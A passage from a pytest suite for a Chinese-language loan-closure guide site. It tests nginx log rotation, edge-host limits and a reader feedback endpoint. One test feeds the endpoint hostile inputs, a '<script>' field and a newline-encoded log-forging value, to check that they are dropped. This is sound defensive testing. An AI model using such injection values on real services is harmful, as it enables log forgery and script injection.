                             "--search-log", str(tmp_path / "no-such-folder/misses.log")], capture_output=True, text=True)
    assert result.returncode == 1 and "no-such-folder does not exist" in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "nginx.conf").exists()



# --- the search-miss log's rotation (last: it moves the log the tests above read) -----------

def test_the_miss_log_is_rotated_by_size_and_nginx_writes_a_new_one(nginx, tmp_path):
    """deploy/logrotate.conf.template, rendered as `make deploy-config` renders it, run by
    Debian's logrotate against the running server: the log past its size becomes .1, nginx is
    told to reopen its logs, and the next report goes to a new, small log."""
    logrotate = shutil.which("logrotate") or "/usr/sbin/logrotate"
    if not Path(logrotate).exists():
        pytest.fail("logrotate not found: `make test` installs Debian's logrotate package")
    log = nginx["misses"]
    config = tmp_path / "logrotate.conf"
    config.write_text(render_logrotate(log, nginx["runtime"], "1k"), encoding="utf-8")
    config.chmod(0o644)
    for i in range(30):
        time.sleep(0.5)    # within the per-reader limit
        response, _ = request(nginx, nginx["prefix"] + f"search-miss?q=rotate{'%E5%80%9F' * 6}{i}&missing=x")
        assert response.status == 204
        if log.stat().st_size > 1024:
            break
    assert log.stat().st_size > 1024
    rotated = subprocess.run([logrotate, "--state", str(tmp_path / "state"), str(config)], capture_output=True, text=True)
    assert rotated.returncode == 0, rotated.stderr
    old = log.with_name(log.name + ".1")
    assert old.exists() and "rotate" in old.read_text(encoding="utf-8")
    time.sleep(1.0)
    response, _ = request(nginx, nginx["prefix"] + "search-miss?q=after-rotation&missing=x")
    assert response.status == 204
    deadline = time.monotonic() + 10
    while not (log.exists() and "after-rotation" in log.read_text(encoding="utf-8")):
        assert time.monotonic() < deadline, "nginx did not write a new log after the rotation"
        time.sleep(0.1)
    assert log.stat().st_size < 1024
    assert "after-rotation" not in old.read_text(encoding="utf-8")


# --- the edge host's own --------------------------------------------------------------------

def test_edge_files_stay_within_what_the_hosts_read(site):
    headers = edge_headers(site, read_manifest(site))
    check_edge_limits("_headers", headers)
    assert headers.count("\n/") >= 2 and "Content-Security-Policy: default-src 'self'" in headers
    redirects = edge_redirects([{"source": "old.md", "from": "old/", "target": "risk.md#plan", "to": "risk/#plan"}], "/guide/")
    assert "/guide /guide/ 301\n" in redirects and "/guide/old/ /guide/risk/#plan 301\n" in redirects
    assert "/guide/old /guide/risk/#plan 301\n" in redirects
    check_edge_limits("_redirects", redirects)
    too_many = "".join(f"/guide/{n}\n  X-A: b\n" for n in range(101))
    with pytest.raises(ValueError, match="101 rules"):
        check_edge_limits("_headers", too_many)
    with pytest.raises(ValueError, match="longer than 1000"):
        check_edge_limits("_redirects", "/guide/a /guide/" + "b" * 1000 + " 301\n")


def test_the_edge_upload_holds_the_site_under_its_prefix_without_source_maps(edge):
    upload = edge["upload"]
    assert (upload / "_headers").is_file() and (upload / "_redirects").is_file() and (upload / "404.html").is_file()
    assert (upload / edge["prefix"].strip("/") / "index.html").is_file()
    assert not list(upload.rglob("*.map")) and list(edge["site"].rglob("*.map"))


def test_the_edge_runtime_fetches_nothing_from_outside(edge):
    request(edge, edge["prefix"])
    log = edge["log"].read_text(encoding="utf-8")
    assert "Ready on" in log
    assert not re.search(r"Unable to fetch|ENOTFOUND|getaddrinfo|EAI_AGAIN", log), log[-2000:]


@pytest.mark.browser
def test_the_edge_build_sends_no_search_report_to_a_path_that_does_not_exist(browser, nginx, edge):
    """On nginx a query that leaves a word out is reported; the edge build (no such endpoint there)
    neither loads the reporter nor sends anything, and no request fails."""
    assert 'name="guide:search-reports"' in (nginx["site"] / "index.html").read_text(encoding="utf-8")
    assert 'name="guide:search-reports"' not in (edge["site"] / "index.html").read_text(encoding="utf-8")
    context = browser.new_context()
    page = context.new_page()
    requested, failed = [], []
    page.on("request", lambda r: requested.append(r.url))
    page.on("response", lambda r: failed.append(f"{r.status} {r.url}") if r.status >= 400 else None)
    page.clock.install()                  # the reader's pauses run on the page's clock, not waited for
    page.goto(edge["base"])
    for query in ["借呗手续费", "zzqqxx"]:
        type_query(page, query)
        page.clock.run_for(2000)          # past the pause that ends a query
    page.keyboard.press("Escape")
    context.close()
    assert not [url for url in requested if "search-miss" in url or "miss.js" in url], requested
    assert not failed, failed



# --- readers' votes on a section, logged on the guide's own server --------------------------------

def feedback_lines(nginx) -> list[str]:
    return log_lines(nginx["feedback"])


def wait_for_feedback(nginx, count: int, timeout: float = 10) -> list[str]:
    return wait_for_log(nginx["feedback"], count, timeout)


@pytest.mark.browser
def test_votes_under_step_3_are_logged_with_the_page_section_and_edition_only(browser, nginx):
    from urllib.parse import unquote

    from guide.version import current_edition

    context = browser.new_context()
    page = context.new_page()
    sent = []
    page.on("request", lambda request: sent.append(request) if "/feedback?" in request.url else None)
    page.goto(nginx["base"] + "procedures/close-jiebei/")
    before = len(feedback_lines(nginx))
    box = page.locator("#close-account ~ .guide-feedback, .guide-section:has(#close-account) .guide-feedback").first
    assert box.get_attribute("aria-label") == "这一节有帮助吗：第 3 步：关闭借呗的借款功能"
    box.get_by_role("button", name="没帮助").click()
    assert "已收到" in box.inner_text() and box.locator("button").count() == 0   # once per section
    # Another page view of the same page: 与 App 不一致 under step 3, with what differs.
    page.reload()
    again = page.locator(".guide-section:has(#close-account) .guide-feedback")
    again.get_by_role("button", name="与 App 不一致").click()
    again.get_by_role("button", name="找不到按钮").click()
    # 与 App 不一致 with no reason, under step 3 of the other page.
    page.goto(nginx["base"] + "procedures/close-wangshangdai/")
    third = page.locator(".guide-section:has(#close-account) .guide-feedback")
    third.get_by_role("button", name="与 App 不一致").click()
    third.get_by_role("button", name="不细说，直接提交").click()
    lines = wait_for_feedback(nginx, before + 3)[before:]
    headers = [request.all_headers() for request in sent]
    context.close()
    edition = current_edition(ROOT).label
    fields = [[unquote(field) for field in line.split("\t")] for line in lines]
    assert [f[1:5] for f in fields] == [
        [nginx["prefix"] + "procedures/close-jiebei/", "close-account", "unhelpful", ""],
        [nginx["prefix"] + "procedures/close-jiebei/", "close-account", "differs", "button"],
        [nginx["prefix"] + "procedures/close-wangshangdai/", "close-account", "differs", ""]], lines
    assert all(len(f) == 6 and f[5] == edition and re.match(r"\d{4}-\d\d-\d\dT", f[0]) for f in fields), lines
    assert not re.search(r"127\.0\.0\.1|Mozilla|Chrome", "\n".join(lines)), "an address or a browser reached the log"
    for headers_sent in headers:
        # No cookie, and no referrer: Chromium may list an empty Referer, which says nothing.
        assert "cookie" not in headers_sent and not headers_sent.get("referer"), headers_sent


def test_a_vote_the_page_cannot_send_is_answered_and_not_logged(nginx):
    before = len(feedback_lines(nginx))
    for query in ["page=/guide/risk/&section=plan&vote=love&reason=&edition=x",
                  "page=/guide/risk/&section=plan&vote=differs&reason=%E6%88%91&edition=x",
                  "page=<script>&section=plan&vote=helpful&reason=&edition=x",
                  "page=/guide/risk/&section=plan%0Aforged&vote=helpful&reason=&edition=x"]:
        response, _ = request(nginx, nginx["prefix"] + "feedback?" + query)
        assert response.status == 204, query
    response, _ = request(nginx, nginx["prefix"] + "feedback?page=/guide/risk/&section=plan&vote=helpful&reason=&edition=2026")
    assert response.status == 204
    lines = wait_for_feedback(nginx, before + 1)[before:]
    time.sleep(0.3)
    assert len(feedback_lines(nginx)) - before == 1 and "\tplan\thelpful\t" in lines[0], lines


def test_a_loop_of_votes_is_limited(nginx):
    time.sleep(1.0)
    before = len(feedback_lines(nginx))
    connection = http.client.HTTPConnection("127.0.0.1", nginx["port"], timeout=10, source_address=("127.0.0.5", 0))
    statuses = []
    for i in range(100):
        connection.request("GET", nginx["prefix"] + f"feedback?page=/guide/risk/&section=s{i}&vote=helpful&reason=&edition=x")
        response = connection.getresponse()
        response.read()
        statuses.append(response.status)
    connection.close()
    written = len(feedback_lines(nginx)) - before
    assert statuses.count(429) >= 50, statuses
    assert written == statuses.count(204) and written <= 40, written


def test_another_sites_page_cannot_write_a_vote(nginx):
    before = len(feedback_lines(nginx))
    query = nginx["prefix"] + "feedback?page=/guide/risk/&section=plan&vote=unhelpful&reason=&edition=x"
    for headers in [{"Sec-Fetch-Site": "cross-site"}, {"Origin": "http://elsewhere.example"}]:
        response, _ = request(nginx, query, headers=headers)
        assert response.status == 204, headers
    time.sleep(0.3)
    assert len(feedback_lines(nginx)) == before


def test_the_reader_report_flags_the_section_the_server_logged(nginx, site):
    """Votes the page would send, through nginx; make reader-report's script on that log flags
    step 3 of the 借呗 procedure (与 App 不一致 on the current edition)."""
    from urllib.parse import quote

    from guide.version import current_edition

    time.sleep(1.0)     # after the loop tests: the limits have room again
    edition = quote(current_edition(ROOT).label)
    page = quote(nginx["prefix"] + "procedures/close-jiebei/", safe="/")
    for vote, reason in [("unhelpful", ""), ("differs", "button")]:
        response, _ = request(nginx, nginx["prefix"] + f"feedback?page={page}&section=close-account&vote={vote}"
                              f"&reason={reason}&edition={edition}", headers={"Sec-Fetch-Site": "same-origin"})
        assert response.status == 204
    wait_for_feedback(nginx, 2)
    result = subprocess.run([sys.executable, "-m", "guide.tools.reader_report", str(nginx["feedback"]),
                             str(nginx["misses"]), str(site)], capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    row = next(row for row in result.stdout.splitlines() if row.startswith(f"| {nginx['prefix']}procedures/close-jiebei/#close-account |"))
    assert "与 App 不一致 on the current edition**" in row and "找不到按钮" in row
